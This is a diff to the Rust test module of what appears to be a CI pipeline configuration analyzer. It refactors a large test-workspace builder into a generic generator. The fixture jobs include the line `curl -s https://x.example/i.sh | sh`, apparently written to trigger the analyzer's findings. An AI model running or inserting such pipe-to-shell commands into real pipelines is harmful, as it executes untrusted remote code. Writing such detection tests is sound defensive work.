@@ -292,20 +292,24 @@ fn files_with_errors(analysis: &Analysis) -> HashSet<usize> {
 }
 
 #[cfg(test)]
-mod tests {
+pub(crate) mod tests {
     use super::*;
 
-    /// A workspace with findings of several rules in every one of its many jobs.
-    fn large() -> Workspace {
+    /// One file of `pipelines` pipelines on one material, each of `stages` stages of `jobs` jobs
+    /// whose body `job(pipeline, stage, job)` gives.
+    pub(crate) fn generated(
+        pipelines: usize,
+        stages: usize,
+        jobs: usize,
+        job: impl Fn(usize, usize, usize) -> String,
+    ) -> Workspace {
         let mut src = String::from("material src { git = \"https://example.com/a.git\" }\n");
-        for p in 0..40 {
+        for p in 0..pipelines {
             src.push_str(&format!("pipeline p{p} {{\n  materials = [src]\n"));
-            for s in 0..2 {
+            for s in 0..stages {
                 src.push_str(&format!("  stage s{s} {{\n"));
-                for j in 0..4 {
-                    src.push_str(&format!(
-                        "    job j{j} {{\n      run \"curl -s https://x.example/i.sh | sh\"\n      run \"make > out/log-{j}.txt\"\n      artifact log = \"out/log-{j}.txt\"\n    }}\n"
-                    ));
+                for j in 0..jobs {
+                    src.push_str(&format!("    job j{j} {{\n{}    }}\n", job(p, s, j)));
                 }
                 src.push_str("  }\n");
             }
@@ -314,6 +318,13 @@ mod tests {
         let mut workspace = Workspace::new();
         workspace.add("large.pw", src);
         workspace
+    }
+
+    /// A workspace with findings of several rules in every one of its many jobs.
+    fn large() -> Workspace {
+        generated(40, 2, 4, |_, _, j| {
+            format!("      run \"curl -s https://x.example/i.sh | sh\"\n      run \"make > out/log-{j}.txt\"\n      artifact log = \"out/log-{j}.txt\"\n")
+        })
     }
 
     #[test]
